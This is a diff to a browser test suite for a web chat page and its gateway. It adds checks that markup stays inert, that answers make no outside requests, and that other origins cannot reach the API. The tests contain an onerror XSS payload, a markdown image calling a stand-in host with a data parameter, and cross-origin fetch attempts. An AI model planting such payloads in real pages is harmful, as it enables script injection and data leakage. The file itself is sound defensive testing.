@@ -1,7 +1,8 @@
 """The page in a real browser, over a real gateway: what a person does there, and what must never happen there.
 
 * from the link with the key to an answer, and again after a reload; nothing is asked of anyone else
-* names, values and questions that are markup stay text
+* names, values and questions that are markup stay text, and make the browser ask no one
+* a page of another origin in the same browser can neither read nor write
 * what goes wrong is said with what to do, and a question that was not taken is not lost
 * narrow screens, and names for everything that can be reached with the keyboard
 """
@@ -24,6 +25,7 @@ NAMELESS = """
     .filter((one) => !(one.innerText || one.ariaLabel || one.labels?.length || one.hasAttribute('alt')))
     .map((one) => one.outerHTML)
 """
+REMOTE = "![x](http://elsewhere.invalid/?data=1)"
 IMAGE = "<img src=x onerror=document.title='taken'>"
 
 
@@ -85,17 +87,23 @@ def test_from_the_link_to_the_answer_and_again_after_a_reload(page: Browser, gat
     assert page.hosts == {"", gateway.url.removeprefix("http://")}
 
 
-def test_markup_is_text(page: Browser, tmp_path: Path) -> None:
+def test_markup_is_text(page: Browser, gateway: Gateway, tmp_path: Path) -> None:
     path = tmp_path / "odd.csv"
-    path.write_text(f"{IMAGE},group\n1,{IMAGE}\n2,b\n6,b\n", "utf-8")
+    path.write_text(f"{IMAGE},group\n1,{IMAGE}\n2,{REMOTE}\n6,{REMOTE}\n", "utf-8")
     page.choose("#upload", path)
     page.until("document.querySelectorAll('#files li').length === 1")
     ask(page, f"describe this {IMAGE}")
     page.until(DONE)
     assert page.text(".asked") == f"describe this {IMAGE}"
     assert IMAGE in page.text(".turn")
-    assert page.value("document.querySelectorAll('img[src=x], .turn script, .turn a').length") == 0
+    ask(page, "most frequent group")
+    assert REMOTE in page.text(".turn:last-of-type .answer:not(.draft)")
+    assert (
+        page.value("document.querySelectorAll('img:not([src^=blob]):not(.brand img), .turn script, .turn a').length")
+        == 0
+    )
     assert page.value("document.title") != "taken"
+    assert page.hosts == {"", gateway.url.removeprefix("http://")}
 
 
 def test_question_that_was_not_taken_is_kept(page: Browser) -> None:
@@ -142,6 +150,24 @@ def test_wrong_key_and_the_right_one(page: Browser, gateway: Gateway) -> None:
     page.value("document.getElementById('key').value = ''")
     page.type("#key", gateway.key)
     page.until("!document.getElementById('ask').hidden && document.getElementById('door').hidden")
+
+
+def test_page_of_another_origin(page: Browser, gateway: Gateway) -> None:
+    """A key that leaked to it is no use either: the browser asks first, and the gateway does not allow it."""
+
+    def sessions() -> int:
+        with gateway.client() as client:
+            return len(client.get("/api/sessions").json()["items"])
+
+    before = sessions()
+    page.command("Page.navigate", url="data:text/html,<title>elsewhere</title>")
+    page.until("document.title === 'elsewhere'")
+    read = f"fetch('{gateway.url}/api/sessions', {{ headers: {{ Authorization: 'Bearer {gateway.key}' }} }})"
+    write = f"fetch('{gateway.url}/api/sessions', {{ method: 'POST', mode: 'no-cors', body: '{{}}' }})"
+    assert page.value(f"{read}.then(() => 'read', () => 'refused')") == "refused"
+    assert page.value(f"{write}.then((reply) => reply.type, () => 'refused')") in ("opaque", "refused")
+    assert sessions() == before
+    page.complaints.clear()  # the browser says that it refused
 
 
 @pytest.mark.parametrize("path", ["/", "/docs"])
